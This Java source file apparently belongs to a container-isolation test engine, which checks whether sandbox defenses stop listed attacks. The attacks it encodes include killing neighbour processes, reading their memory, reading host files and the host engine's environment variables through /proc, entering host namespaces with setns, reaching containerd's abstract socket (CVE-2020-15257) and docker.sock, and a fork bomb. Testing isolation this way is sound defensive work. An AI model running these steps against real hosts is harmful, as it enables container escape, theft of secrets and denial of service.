package dev.jug.engine.attack;

import static dev.jug.engine.attack.Moves.READ;
import static dev.jug.engine.attack.Moves.ZERO;
import static dev.jug.runtime.plan.Arg.at;
import static dev.jug.runtime.plan.Arg.flags;
import static dev.jug.runtime.plan.Arg.num;
import static dev.jug.runtime.plan.Arg.var;

import dev.jug.engine.attack.Attack.Harm;
import dev.jug.engine.attack.Fence.Apart;
import dev.jug.engine.attack.Fence.BuiltIn;
import dev.jug.engine.attack.Fence.Filtered;
import dev.jug.engine.attack.Fence.Lacking;
import dev.jug.engine.attack.Fence.Landlocked;
import dev.jug.engine.attack.Fence.Landlocked.Part;
import dev.jug.engine.attack.Fence.ProcessLimit;
import dev.jug.linux.Call;
import dev.jug.linux.cap.Capability;
import dev.jug.runtime.plan.Arg;
import dev.jug.runtime.plan.Block;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Processes of others: the host's, and those of a neighbour. */
final class Processes {
  private static final Arg SIGKILL = flags(9, "SIGKILL");
  private static final Arg SIGCHLD = flags(17, "SIGCHLD");
  private static final Arg STREAM = flags(1, "SOCK_STREAM");
  private static final Arg UNIX = flags(1, "AF_UNIX");
  private static final Arg NEW_MOUNTS = flags(0x20000, "CLONE_NEWNS");

  /** Each doubles the number of processes. */
  private static final int DOUBLINGS = 12;

  /**
   * What is in the way of whoever looks into another process (ptrace(2), "access mode checking").
   */
  private static final List<Fence> READING =
      List.of(new Apart("pid"), new Lacking(Capability.SYS_PTRACE), new Landlocked(Part.PROCESSES));

  private Processes() {}

  static List<Attack> all() {
    return List.of(
        kill(), memory(), hostRoot(), hostEnvironment(), hostMounts(), sockets(), door(), bomb());
  }

  private static Attack kill() {
    return new Attack(
            "kill",
            "kill a process of another container",
            "kill(2)",
            "the end of everybody else's processes",
            List.of(new Apart("pid"), new Landlocked(Part.SIGNALS)),
            (moves, scene) -> {
              moves.because("the neighbour, by its number on the host");
              moves.call(Call.KILL, num(scene.victim()), SIGKILL);
            })
        .against(Moves.bystander(Harm.DEATH));
  }

  private static Attack memory() {
    return new Attack(
            "ptrace",
            "read the memory of a process of another container",
            "process_vm_readv(2), ptrace(2)",
            "its secrets",
            READING,
            (moves, scene) -> {
              moves.because("where the neighbour has a secret");
              var found = Block.room(8, "found");
              var here = Block.struct(16, "here").link(0, found).put(8, 8, 8);
              var there = Block.struct(16, "there").put(0, 8, Scene.SECRET_ADDRESS).put(8, 8, 8);
              moves.call(
                  Call.PROCESS_VM_READV,
                  num(scene.victim()),
                  at(here),
                  num(1),
                  at(there),
                  num(1),
                  ZERO);
              moves.expectSecret(found, 0, scene);
            })
        .against(Moves.bystander(Harm.NONE));
  }

  private static Attack hostRoot() {
    return new Attack(
        "host-root",
        "read the host's files below /proc/PID/root",
        "proc_pid_root(5)",
        "all files of the host",
        READING,
        (moves, scene) ->
            moves.readCanary("/proc/" + scene.engine() + "/root" + scene.canary(), scene));
  }

  private static Attack hostEnvironment() {
    return new Attack(
        "host-environ",
        "read the environment of a process of the host",
        "proc_pid_environ(5)",
        "passwords that programs were started with",
        READING,
        (moves, scene) -> {
          moves.because("the engine's");
          var file = moves.open("/proc/" + scene.engine() + "/environ", READ);
          moves.read(file, moves.plan().slot("count"));
        });
  }

  private static Attack hostMounts() {
    return new Attack(
        "setns",
        "enter the host's mounts by a process of the host",
        "setns(2)",
        "all files of the host",
        List.of(
            new Apart("pid"),
            new Landlocked(Part.PROCESSES),
            new Filtered(Call.SETNS),
            new Lacking(Capability.SYS_ADMIN)),
        (moves, scene) -> {
          moves.because("the engine's mount namespace");
          var space = moves.open("/proc/" + scene.engine() + "/ns/mnt", READ);
          moves.call(Call.SETNS, var(space), NEW_MOUNTS);
          moves.readCanary(scene.canary().toString(), scene);
        });
  }

  private static Attack sockets() {
    return new Attack(
        "abstract-socket",
        "connect to a Unix socket of the host that is no file",
        "CVE-2020-15257, unix(7)",
        "containerd's shim, once: root on the host",
        List.of(new Apart("network"), new Landlocked(Part.SOCKETS)),
        (moves, scene) -> connect(moves, "\0" + scene.socket()));
  }

  private static Attack door() {
    return new Attack(
        "engine-socket",
        "command the engine from inside",
        "docker.sock",
        "root on the host: a privileged container away",
        List.of(new Apart("mount")),
        (moves, scene) -> connect(moves, scene.door().toString()));
  }

  private static void connect(Moves moves, String name) {
    moves.because("who listens there commands");
    var bytes = name.getBytes(StandardCharsets.UTF_8);
    var address = Block.struct(2 + bytes.length, "the address").put(0, 2, 1);
    for (int i = 0; i < bytes.length; i++) {
      address.put(2 + i, 1, bytes[i]);
    }
    var socket = moves.plan().slot("socket");
    moves.call(Call.SOCKET, UNIX, STREAM, ZERO).into(socket);
    moves.call(Call.CONNECT, var(socket), at(address), num(2 + bytes.length));
  }

  /** Ends by itself. */
  private static Attack bomb() {
    return new Attack(
        "fork-bomb",
        "start " + (1 << DOUBLINGS) + " processes",
        "fork(2)",
        "the process table of the host",
        List.of(new ProcessLimit(), new BuiltIn("kernel.pid_max")),
        (moves, _) -> {
          for (int i = 0; i < DOUBLINGS; i++) {
            moves.because((2 << i) + " of them");
            moves.call(Call.CLONE, SIGCHLD, ZERO, ZERO, ZERO, ZERO);
          }
          moves.sleep(1);
        });
  }
}
